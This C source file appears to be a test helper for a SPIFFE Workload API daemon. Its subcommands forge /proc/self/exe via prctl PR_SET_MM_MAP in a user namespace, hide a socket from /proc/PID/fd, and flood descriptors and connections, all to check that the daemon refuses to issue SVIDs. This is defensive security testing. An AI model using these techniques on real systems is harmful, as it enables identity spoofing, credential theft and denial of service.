/*
 * wl-attack: what test/agent/workload_attest.t does to bcd's Workload API
 * that Python cannot (issue 42, the second attack's findings).  Every
 * subcommand that asks for an SVID sends REQ, the bytes a real gRPC client
 * sent for one FetchX509SVID (the test captures them), and looks for
 * "spiffe://" in the raw answer: no gRPC here, so nothing of the client can
 * hide an answer.
 *
 *   wl-attack masq userns|vm TARGET SOCKET REQ N
 *       make /proc/self/exe name TARGET without running it (prctl
 *       PR_SET_MM_MAP with exe_fd, allowed with CAP_SYS_ADMIN in one's own
 *       user namespace once the old executable is no longer mapped: its
 *       mappings are first replaced by anonymous copies, atomically with
 *       mremap so that the code doing it keeps running).  userns: this
 *       process enters a user namespace of its own; vm: a sibling made with
 *       clone(CLONE_VM | CLONE_NEWUSER) does it for this process's memory
 *       and exits, so this process never leaves its user namespace.  Then N
 *       attempts on SOCKET.  Prints {"masq": rc, "exe": E, "userns_same": b,
 *       "svids": k, "attempts": N}.
 *   wl-attack holder SOCKET REQ own-table|leader-exit
 *       P connects; Q = fork(); in Q a thread T holds the connection where
 *       /proc/Q/fd does not show it: own-table, T has a descriptor table of
 *       its own (CLONE_THREAD without CLONE_FILES) and Q's leader closes its
 *       copy; leader-exit, T shares the table and Q's leader thread exits
 *       (a zombie leader shows no descriptors).  P sends REQ and never
 *       reads; T reads.  Prints {"svid": b}.
 *   wl-attack fdflood K N SECONDS
 *       K processes holding N descriptors each (dup of one pipe) for
 *       SECONDS; prints "ready" once every one holds them.
 *   wl-attack connflood SOCKET K SECONDS
 *       K processes connecting to SOCKET and closing at once, as fast as
 *       they can, for SECONDS or until SIGTERM; prints {"connects": n,
 *       "refused": m}.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <linux/prctl.h>

static unsigned char req[1 << 16];
static size_t req_len;

/* Read REQ into req; 0 or -1. */
static int
read_req(const char *path)
{
	int			fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t		n;

	if (fd < 0)
		return -1;
	n = read(fd, req, sizeof(req));
	close(fd);
	if (n <= 0)
		return -1;
	req_len = (size_t) n;
	return 0;
}

/* A connection to the unix socket path, or -1. */
static int
connect_to(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int			s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	if (s >= 0 && connect(s, (struct sockaddr *) &a, sizeof(a)) != 0)
	{
		close(s);
		s = -1;
	}
	return s;
}

/*
 * Read from s for up to ms milliseconds: 1 when "spiffe://" came, 0 when
 * the connection ended, the time ran out or the call's status came first.
 */
static int
read_svid(int s, int ms)
{
	static char buf[1 << 16];
	size_t		n = 0;

	for (int waited = 0; waited < ms && n < sizeof(buf);)
	{
		struct pollfd p = {s, POLLIN, 0};
		ssize_t		k;

		if (poll(&p, 1, 50) <= 0)
		{
			waited += 50;
			continue;
		}
		k = recv(s, buf + n, sizeof(buf) - n, MSG_DONTWAIT);
		if (k == 0)
			break;
		if (k < 0)
		{
			if (errno == EAGAIN || errno == EINTR)
				continue;
			break;
		}
		n += (size_t) k;
		if (memmem(buf, n, "spiffe://", 9) != NULL)
			return 1;
		/* the call's status came first: refused (HPACK sends a new name as text) */
		if (memmem(buf, n, "grpc-status", 11) != NULL)
			return 0;
	}
	return 0;
}

/* ------------------------------------------------------------ masq */

/* /proc/self/stat fields 1..52 into v[] (field 2, comm, skipped). */
static int
stat_fields(unsigned long *v)
{
	static char buf[4096];
	int			fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
	ssize_t		n;
	char	   *p;

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	if ((p = strrchr(buf, ')')) == NULL)
		return -1;
	p += 2;
	for (int i = 3; i <= 52 && *p; i++)
	{
		v[i] = i == 3 ? 0 : strtoul(p, NULL, 10);
		if ((p = strchr(p, ' ')) == NULL)
			break;
		p++;
	}
	return 0;
}

/*
 * Replace every mapping of this process's executable by an anonymous copy
 * (mremap moves the copy over it in one step: the code running here is in
 * one of them), then set exe_file to target.  0, or a negative step.
 */
static int
masq_inner(const char *target)
{
	static char maps[1 << 16];
	char		exe[4096];
	struct prctl_mm_map m;
	unsigned long v[60] = {0};
	sigset_t	all,
				old;
	ssize_t		n = 0;
	int			fd;
	int			rc = 0;

	if ((n = readlink("/proc/self/exe", exe, sizeof(exe) - 1)) <= 0)
		return -2;
	exe[n] = '\0';
	n = 0;
	if ((fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC)) < 0)
		return -3;
	for (ssize_t k; (k = read(fd, maps + n, sizeof(maps) - 1 - (size_t) n)) > 0;)
		n += k;
	close(fd);
	maps[n] = '\0';
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, &old);
	for (char *line = maps; line != NULL && *line != '\0';)
	{
		char	   *nl = strchr(line, '\n');
		char	   *path;
		unsigned long a,
					b;
		char		perms[8];

		if (nl != NULL)
			*nl = '\0';
		path = strchr(line, '/');
		if (path != NULL && strcmp(path, exe) == 0 &&
			sscanf(line, "%lx-%lx %4s", &a, &b, perms) == 3)
		{
			size_t		len = b - a;
			int			prot = (perms[0] == 'r' ? PROT_READ : 0) |
				(perms[1] == 'w' ? PROT_WRITE : 0) | (perms[2] == 'x' ? PROT_EXEC : 0);
			void	   *copy = mmap(NULL, len, PROT_READ | PROT_WRITE,
									MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

			if (copy == MAP_FAILED)
			{
				rc = -4;
				break;
			}
			if (perms[0] != 'r')
				mprotect((void *) a, len, PROT_READ);
			memcpy(copy, (void *) a, len);
			if (mprotect(copy, len, prot) != 0 ||
				mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *) a) == MAP_FAILED)
			{
				rc = -5;
				break;
			}
		}
		line = nl != NULL ? nl + 1 : NULL;
	}
	sigprocmask(SIG_SETMASK, &old, NULL);
	if (rc != 0)
		return rc;
	if (stat_fields(v) != 0)
		return -6;
	memset(&m, 0, sizeof(m));
	m.start_code = v[26];
	m.end_code = v[27];
	m.start_stack = v[28];
	m.start_data = v[45];
	m.end_data = v[46];
	m.start_brk = v[47];
	m.arg_start = v[48];
	m.arg_end = v[49];
	m.env_start = v[50];
	m.env_end = v[51];
	m.brk = (unsigned long) syscall(SYS_brk, 0);
	if ((fd = open(target, O_RDONLY | O_CLOEXEC)) < 0)
		return -7;
	m.exe_fd = (unsigned int) fd;
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long) &m, sizeof(m), 0) != 0)
		rc = -100 - errno;
	close(fd);
	return rc;
}

static const char *vm_target;
static volatile int vm_rc;

/* The CLONE_VM sibling: the masquerade for its parent's memory, in a user namespace of its own. */
static int
vm_child(void *arg)
{
	(void) arg;
	vm_rc = masq_inner(vm_target);
	return 0;
}

static int
cmd_masq(int argc, char **argv)
{
	char		exe[4096];
	char		ns0[128];
	char		ns1[128];
	ssize_t		n;
	int			rc;
	int			svids = 0;
	int			tries;

	if (argc != 6 || read_req(argv[4]) != 0)
	{
		fprintf(stderr, "usage: wl-attack masq userns|vm TARGET SOCKET REQ N\n");
		return 64;
	}
	tries = atoi(argv[5]);
	n = readlink("/proc/self/ns/user", ns0, sizeof(ns0) - 1);
	ns0[n > 0 ? n : 0] = '\0';
	if (strcmp(argv[1], "vm") == 0)
	{
		size_t		sz = 1 << 20;
		char	   *stack = mmap(NULL, sz, PROT_READ | PROT_WRITE,
								 MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
		pid_t		pid;
		int			st;

		vm_target = argv[2];
		vm_rc = -99;
		pid = stack == MAP_FAILED ? -1 :
			clone(vm_child, stack + sz, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
		rc = pid < 0 ? -1000 - errno : waitpid(pid, &st, 0) != pid ? -21 : vm_rc;
	}
	else
		rc = unshare(CLONE_NEWUSER) != 0 ? -1 : masq_inner(argv[2]);
	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	n = readlink("/proc/self/ns/user", ns1, sizeof(ns1) - 1);
	ns1[n > 0 ? n : 0] = '\0';
	for (int i = 0; rc == 0 && i < tries; i++)
	{
		int			s = connect_to(argv[3]);

		if (s < 0)
			continue;
		if (send(s, req, req_len, MSG_NOSIGNAL) == (ssize_t) req_len)
			svids += read_svid(s, 3000);
		close(s);
	}
	printf("{\"masq\": %d, \"exe\": \"%s\", \"userns_same\": %s, \"svids\": %d, \"attempts\": %d}\n",
		   rc, exe, strcmp(ns0, ns1) == 0 ? "true" : "false", svids, tries);
	return 0;
}

/* ------------------------------------------------------------ holder */

static int holder_sock;
static int report[2];

/* T: read the answer on the connection; report 'y' or 'n'; end this thread only. */
static int
reader(void *arg)
{
	char		ok;

	(void) arg;
	ok = read_svid(holder_sock, 4000) ? 'y' : 'n';
	syscall(SYS_write, report[1], &ok, 1);
	syscall(SYS_exit, 0);
	return 0;
}

static int
cmd_holder(int argc, char **argv)
{
	int			leader_exit;
	int			go[2];
	char		ok = '?';
	pid_t		q;

	if (argc != 4 || read_req(argv[2]) != 0)
	{
		fprintf(stderr, "usage: wl-attack holder SOCKET REQ own-table|leader-exit\n");
		return 64;
	}
	leader_exit = strcmp(argv[3], "leader-exit") == 0;
	if (pipe(report) != 0 || pipe(go) != 0)
		return 1;
	if ((holder_sock = connect_to(argv[1])) < 0)
	{
		perror("connect");
		return 1;
	}
	q = fork();
	if (q == 0)
	{
		size_t		sz = 1 << 20;
		char	   *stack = mmap(NULL, sz, PROT_READ | PROT_WRITE,
								 MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
		int			flags = CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM |
			(leader_exit ? CLONE_FILES : 0);

		if (stack == MAP_FAILED || clone(reader, stack + sz, flags, NULL) < 0)
			_exit(2);
		usleep(100000);
		if (write(go[1], "g", 1) != 1)
			_exit(3);
		if (leader_exit)
			syscall(SYS_exit, 0);	/* the leader thread alone: a zombie leader, T goes on */
		close(holder_sock);		/* the leader's table: no copy left; T's own has one */
		pause();
		_exit(0);
	}
	/* P keeps its copy (bcd serves only a connector that holds it), sends, never reads */
	if (read(go[0], &ok, 1) != 1)
		return 1;
	usleep(200000);
	if (send(holder_sock, req, req_len, MSG_NOSIGNAL) != (ssize_t) req_len)
		return 1;
	if (read(report[0], &ok, 1) != 1)
		ok = '?';
	kill(q, SIGKILL);
	waitpid(q, NULL, 0);
	printf("{\"svid\": %s}\n", ok == 'y' ? "true" : "false");
	return 0;
}

/* ------------------------------------------------------------ floods */

static int
cmd_fdflood(int argc, char **argv)
{
	struct rlimit rl;
	int			k,
				n,
				secs;
	int			p[2];
	int			ready[2];
	char		c;

	if (argc != 4)
	{
		fprintf(stderr, "usage: wl-attack fdflood K N SECONDS\n");
		return 64;
	}
	k = atoi(argv[1]);
	n = atoi(argv[2]);
	secs = atoi(argv[3]);
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	if (pipe(p) != 0 || pipe(ready) != 0)
		return 1;
	for (int i = 0; i < k; i++)
		if (fork() == 0)
		{
			for (int j = 0; j < n; j++)
				if (dup(p[0]) < 0)
					break;
			if (write(ready[1], "r", 1) != 1)
				_exit(1);
			sleep((unsigned int) secs);
			_exit(0);
		}
	for (int i = 0; i < k; i++)
		if (read(ready[0], &c, 1) != 1)
			return 1;
	printf("ready\n");
	fflush(stdout);
	while (wait(NULL) > 0)
		;
	return 0;
}

static volatile sig_atomic_t flood_stop;

/* SIGTERM: the flood ends, its counts are still told. */
static void
on_term(int sig)
{
	(void) sig;
	flood_stop = 1;
}

static int
cmd_connflood(int argc, char **argv)
{
	struct sigaction sa;
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int			k,
				secs;
	int			out[2];
	long		connects = 0,
				refused = 0;

	if (argc != 4)
	{
		fprintf(stderr, "usage: wl-attack connflood SOCKET K SECONDS\n");
		return 64;
	}
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[1]);
	k = atoi(argv[2]);
	secs = atoi(argv[3]);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sa.sa_flags = SA_RESTART;
	sigaction(SIGTERM, &sa, NULL);
	if (pipe(out) != 0)
		return 1;
	for (int i = 0; i < k; i++)
		if (fork() == 0)
		{
			time_t		end = time(NULL) + secs;
			long		r[2] = {0, 0};

			while (!flood_stop && time(NULL) < end)
			{
				int			s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);

				if (s < 0)
				{
					usleep(1000);
					continue;
				}
				if (connect(s, (struct sockaddr *) &a, sizeof(a)) == 0)
					r[0]++;
				else
					r[1]++;
				close(s);
			}
			if (write(out[1], r, sizeof(r)) != (ssize_t) sizeof(r))
				_exit(1);
			_exit(0);
		}
	close(out[1]);
	for (long r[2]; read(out[0], r, sizeof(r)) == (ssize_t) sizeof(r);)
	{
		connects += r[0];
		refused += r[1];
	}
	while (wait(NULL) > 0)
		;
	printf("{\"connects\": %ld, \"refused\": %ld}\n", connects, refused);
	return 0;
}

int
main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "masq") == 0)
		return cmd_masq(argc - 1, argv + 1);
	if (argc >= 2 && strcmp(argv[1], "holder") == 0)
		return cmd_holder(argc - 1, argv + 1);
	if (argc >= 2 && strcmp(argv[1], "fdflood") == 0)
		return cmd_fdflood(argc - 1, argv + 1);
	if (argc >= 2 && strcmp(argv[1], "connflood") == 0)
		return cmd_connflood(argc - 1, argv + 1);
	fprintf(stderr, "usage: wl-attack masq|holder|fdflood|connflood ...\n");
	return 64;
}
